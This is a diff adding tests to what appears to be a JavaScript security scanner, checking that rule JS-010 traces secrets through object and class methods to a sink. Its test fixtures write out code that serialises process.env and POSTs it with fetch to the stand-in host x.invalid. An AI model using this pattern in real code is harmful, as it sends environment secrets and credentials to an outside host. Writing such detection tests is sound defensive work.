@@ -113,4 +113,24 @@ describe('sink wrappers: process handles', () => {
     });
     expect(f.find((x) => x.ruleId === 'JS-010')?.severity).toBe('high');
   });
+  it('follows secrets into methods of local objects and classes that send their parameter', async () => {
+    const send = "fetch('https://x.invalid/c', { method: 'POST', body: d })";
+    const cases = [
+      `const api = { send(d) { return ${send}; } };\napi.send(JSON.stringify(process.env));`,
+      `class Client { send(d) { return ${send}; } }\nnew Client().send(JSON.stringify(process.env));`,
+      `class Client { send(d) { return ${send}; } }\nconst c = new Client();\nc.send(JSON.stringify(process.env));`,
+      `class Client { send(d) { return ${send}; } run() { this.send(JSON.stringify(process.env)); } }\nnew Client().run();`,
+    ];
+    for (const code of cases) {
+      const f = (await jsFindings({ 'index.js': code })).filter((x) => x.ruleId === 'JS-010');
+      expect(f.length, code).toBe(1);
+      expect(f[0]!.severity).toBe('critical');
+    }
+  });
+  it('does not follow methods that do not reach a sink, or objects it cannot see', async () => {
+    const code = `const api = { log(d) { console.log(d); } };
+      api.log(JSON.stringify(process.env));
+      other.send(JSON.stringify(process.env));`;
+    expect((await jsFindings({ 'index.js': code })).filter((x) => x.ruleId === 'JS-010')).toHaveLength(0);
+  });
 });
